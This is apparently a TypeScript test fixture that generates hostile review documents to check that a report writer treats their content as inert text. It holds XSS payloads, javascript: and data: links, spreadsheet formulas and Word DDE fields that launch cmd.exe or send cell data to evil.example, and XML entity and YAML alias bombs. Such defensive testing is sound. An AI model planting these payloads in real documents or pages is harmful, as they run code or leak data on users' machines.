/** A word that stands in each of these reviews, and has to stand in every report of it. */
export const KEPT = 'Kestrel';

export interface HostileReview {
  readonly name: string;
  readonly text: string;
  /** False where the review holds nothing that could be kept. */
  readonly keeps: boolean;
}

function review(name: string, { front = '', body = '' }: { front?: string; body?: string }): HostileReview {
  const text = `---
schemaVersion: 1
reviewType: lcspr
reference: LCSPR-1
title: Alder
stage: draft
${front}---

# Alder

## Analysis

${KEPT} was seen.

${body}
`;
  return { name, text, keeps: true };
}

const action = (words: string) => ({
  front: `recommendations:
  - id: R1
    text: ${JSON.stringify(words)}
    actions:
      - id: A1
        action: ${JSON.stringify(words)}
        owner: { role: ${JSON.stringify(words)} }
        evidence: ${JSON.stringify(words)}
`,
});

const markup: readonly (readonly [string, string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a picture that runs a script when it fails', '<img src=x onerror="alert(1)">'],
  ['the end of the style and another style', '</style><style>@import "https://evil.example/s.css";</style>'],
  ['the end of the title and a script', '</title><script src="https://evil.example/a.js"></script>'],
  ['a frame', '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a drawing that runs a script', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  [
    'another address for the page',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="//evil">',
  ],
  ['a form', '<form action="https://evil.example"><input autofocus onfocus=alert(1)></form>'],
  ['a comment that ends early', '--><script>alert(1)</script><!--'],
  ['the end of character data', ']]></w:t><w:t>&amp;&#x0;<![CDATA['],
  ['a document type with entities', '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;'],
];

const links: readonly (readonly [string, string])[] = [
  ['a link to a script', '[a](javascript:alert(1)) and <javascript:alert(2)>'],
  ['a link to a script in disguise', '[a](JaVa\tScRiPt:alert(1)) [b](&#106;avascript:alert(1))'],
  ['a link to data', '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a link to a program of Windows', '[a](vbscript:x) [b](file:///c:/windows/system32/calc.exe) [c](ms-word:ofe|u|x)'],
  ['a picture from elsewhere', '![p](https://evil.example/p.png) ![p](//evil.example/p.png "t")'],
  ['a drawing as data', '![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)'],
  ['a picture that is none', '![p](data:image/png;base64,AAAA)'],
  ['a link that leads to itself', '[a][a]\n\n[a]: <#a> "onclick=alert(1)"'],
];

const formulas: readonly (readonly [string, string])[] = [
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"x")'],
  ['a formula with a plus sign', "+1+cmd|' /C calc'!A0"],
  ['a formula with a minus sign', "-2+3+cmd|' /C calc'!A0"],
  ['a formula with an at sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a formula behind white space', '\t=1+1'],
  ['a field of Word', '{ INCLUDETEXT "c:\\\\secret" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }'],
];

const signs: readonly (readonly [string, string])[] = [
  ['control characters', 'A\u0001B\u0008C\u000bD\u001bE\u007fF\u0085G'],
  ['the first half of a pair alone', 'A\ud800B'],
  ['the second half of a pair alone', 'A\udc00B'],
  ['marks that turn the direction of writing', 'A\u202eB\u2066C\u200fD'],
  ['signs without width', 'A\u200bB\ufeffC\u00adD\u2060E'],
  ['separators of lines and paragraphs', 'A\u2028B\u2029C'],
  ['signs that are no characters', 'A\ufffeB\uffffC'],
  [
    'letters of other scripts and pictures',
    'Zoë \u05d0\u05d1 \u0627\u0644 \u4e2d\u6587 \ud83d\udc68\u200d\ud83d\udc67 e\u0301\u0323',
  ],
  ['words for replacing', `$& $1 $\` \${x} {{x}} %s %n &nbsp; \\u0000`],
];

const shapes: readonly HostileReview[] = [
  review('a table cell of a million letters', { body: `| a | b |\n| --- | --- |\n| ${'word '.repeat(200_000)} | x |` }),
  review('a word of a hundred thousand letters', { body: 'x'.repeat(100_000) }),
  review('a table of 500 columns', {
    body: [`| ${'c | '.repeat(500)}`, `|${' --- |'.repeat(500)}`, `| ${'v | '.repeat(500)}`].join('\n'),
  }),
  review('lists in lists', { body: Array.from({ length: 40 }, (_, at) => `${'  '.repeat(at)}- item`).join('\n') }),
  review('quotations in quotations', { body: `${'>'.repeat(120)} deep` }),
  review('a thousand headings', { body: Array.from({ length: 1_000 }, (_, at) => `### Part ${at}\n`).join('\n') }),
  review('ids that nobody defined, and words like ids', {
    body: '[F99] [__proto__] [constructor] [toString] [R1, F2] [f1]',
  }),
  review('footnotes that name each other', { body: 'A[^a]\n\n[^a]: see[^b]\n[^b]: see[^a] and[^none]' }),
  review('two things with one id', { front: 'findings:\n  - {id: F1, title: A}\n  - {id: F1, title: B}\n' }),
  review('values of the wrong shape', {
    front:
      'findings: 3\nrecommendations: {a: [1]}\nsources: [null, [], "x"]\nchildren: true\nevaluation: []\ndates: no\n',
  }),
  review('keys that name parts of the program', { front: '__proto__: {a: 1}\nconstructor: x\nhasOwnProperty: y\n' }),
  review('aliases of aliases', {
    front: `a: &a [x, x, x, x, x, x, x, x, x]\n${[...'bcdefgh']
      .map((name, at) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${'abcdefg'[at]}`).join(', ')}]`)
      .join('\n')}\n`,
  }),
  review('days that are none', { front: 'dates: {incident: 2026-02-30, aware: 0000-00-00, notified: 99999-01-01}\n' }),
  { name: 'a front matter that never ends', text: `---\nreviewType: lcspr\ntitle: ${KEPT}\n`, keeps: true },
  {
    name: 'a front matter with a slip',
    text: `---\ntitle: "a\nx: [\n---\n\n## Analysis\n\n${KEPT} was seen.\n`,
    keeps: true,
  },
  { name: 'no front matter', text: `${KEPT} was seen.`, keeps: true },
  { name: 'nothing', text: '', keeps: false },
  { name: 'a byte order mark and nothing else', text: '\ufeff', keeps: false },
];

/** Reviews that would do harm, or break a file, if a writer took their words for more than words. */
export const hostileReviews: readonly HostileReview[] = [
  ...[...markup, ...links, ...signs].map(([name, words]) =>
    review(`${name}`, { ...action(`${words} x`), body: `${words}\n\n| ${words.replaceAll('|', '\\|')} |\n| --- |\n` }),
  ),
  ...formulas.map(([name, words]) => review(name, { ...action(words), body: words })),
  ...shapes,
];
